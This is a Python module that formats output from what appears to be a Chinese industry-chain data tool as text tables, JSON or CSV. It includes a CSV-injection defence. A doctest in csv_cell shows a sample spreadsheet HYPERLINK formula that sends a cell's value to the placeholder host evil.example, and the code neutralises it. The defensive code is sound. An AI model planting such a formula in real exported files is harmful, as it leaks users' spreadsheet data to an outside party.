"""Render plain data as a readable table, JSON or CSV.  The only module that formats output.

Tables have Chinese headers; JSON keeps Chinese readable (``ensure_ascii=False``) and keeps
nested data; CSV uses the stable English keys as headers so scripts do not depend on labels.

Examples
--------
>>> rows = [{"name": "骏捷智能", "segments": ["智能终端", "PCB"]}]
>>> print(render(rows, [("name", "企业"), ("segments", "环节")], "csv"), end="")
name,segments
骏捷智能,智能终端、PCB
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any, Sequence

FORMATS = ("table", "json", "csv")
Columns = Sequence[tuple[str, str]]


def cell(value: Any) -> str:
    """One value as text: lists joined with 、, floats trimmed, None as empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, float):
        return f"{value:.3f}".rstrip("0").rstrip(".") if value == value else ""
    if isinstance(value, (list, tuple)):
        return "、".join(cell(v) for v in value)
    if isinstance(value, dict):
        return "; ".join(f"{k}={cell(v)}" for k, v in value.items())
    return str(value)


def to_json(obj: Any) -> str:
    """Pretty JSON with readable Chinese."""
    return json.dumps(obj, ensure_ascii=False, indent=2, default=str) + "\n"


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """One CSV cell that a spreadsheet opens as text: a text value starting with ``= + - @``,
    tab or carriage return gets a leading ``'`` (OWASP's advice against CSV injection);
    numbers are written as they are.

    >>> print(csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
    '=HYPERLINK("http://evil.example/?x="&A1,"click")
    >>> csv_cell(-0.5), csv_cell("-负极材料"), csv_cell("骏捷")
    ('-0.5', "'-负极材料", '骏捷')
    """
    text = cell(value)
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return text
    return "'" + text if text.startswith(_FORMULA_START) else text


def to_csv(rows: list[dict], columns: Columns) -> str:
    """CSV with the English keys as header; text cells neutralised by :func:`csv_cell`."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow([k for k, _ in columns])
    for r in rows:
        w.writerow([csv_cell(r.get(k)) for k, _ in columns])
    return buf.getvalue()


def to_table(rows: list[dict], columns: Columns, title: str | None = None, width: int = 160, *,
             caption: str | None = None, no_wrap: Sequence[str] = ()) -> str:
    """A rich table rendered to plain text (no colour codes), Chinese headers; cells are shown as
    written (square brackets are not console markup).

    Columns whose keys are in ``no_wrap`` (codes, numbers) are never split over lines: they
    are as wide as their longest value.  ``caption`` is printed under the table.

    >>> print(to_table([{"c": "002579.SZ", "t": "很长的产品名称" * 9}], [("c", "代码"), ("t", "产品")],
    ...                width=40, no_wrap=["c"]).splitlines()[3])
    │ 002579.SZ │ 很长的产品名称很长的产品 │
    """
    texts = [[cell(r.get(k)) for k, _ in columns] for r in rows]
    wide = [max((len(t[i]) for t in texts), default=0) if key in no_wrap else None for i, (key, _) in enumerate(columns)]
    # the same characters as rich's Table draws, without its per-cell cost (see chaingraph.tabletext)
    from chaingraph.tabletext import draw

    text = draw([h for _, h in columns], texts, width=width, no_wrap=[w is not None for w in wide], min_widths=wide,
                title=title, caption=caption)
    return text if text is not None else rich_table(texts, [h for _, h in columns], wide, title, width, caption)


def rich_table(texts: list[list[str]], headers: Sequence[str], wide: Sequence[int | None], title: str | None,
               width: int, caption: str | None) -> str:
    """The table drawn by rich itself: a column with a ``wide`` width is never wrapped and at least
    that wide, the others fold (what :func:`chaingraph.tabletext.draw` reproduces)."""
    # start-up: rich loads only when a table is drawn (JSON and CSV output never need it)
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

    table = Table(title=title, caption=caption, show_lines=False, header_style="bold")
    for header, w in zip(headers, wide):
        if w is not None:
            table.add_column(header, no_wrap=True, min_width=w)
        else:
            table.add_column(header, overflow="fold")
    for t in texts:  # Text, not str: no console markup, so "乙[supply]" stays as written (and 30 % faster)
        table.add_row(*[Text(x) for x in t])
    buf = io.StringIO()
    Console(file=buf, width=width, color_system=None, legacy_windows=False).print(table)
    return buf.getvalue()


def render(rows: list[dict], columns: Columns, fmt: str = "table", *, title: str | None = None, payload: Any = None,
           caption: str | None = None, no_wrap: Sequence[str] = ()) -> str:
    """Rows in ``fmt``; JSON prints ``payload`` when given (e.g. rows plus weights).

    ``caption`` and ``no_wrap`` are for tables (see :func:`to_table`)."""
    if fmt == "json":
        return to_json(rows if payload is None else payload)
    if fmt == "csv":
        return to_csv(rows, columns)
    if fmt == "table":
        if not rows:
            return (f"{title}\n" if title else "") + "（无结果）\n" + (f"{caption}\n" if caption else "")
        return to_table(rows, columns, title, caption=caption, no_wrap=no_wrap)
    raise ValueError(f"unknown format {fmt!r}; choose one of {', '.join(FORMATS)}")
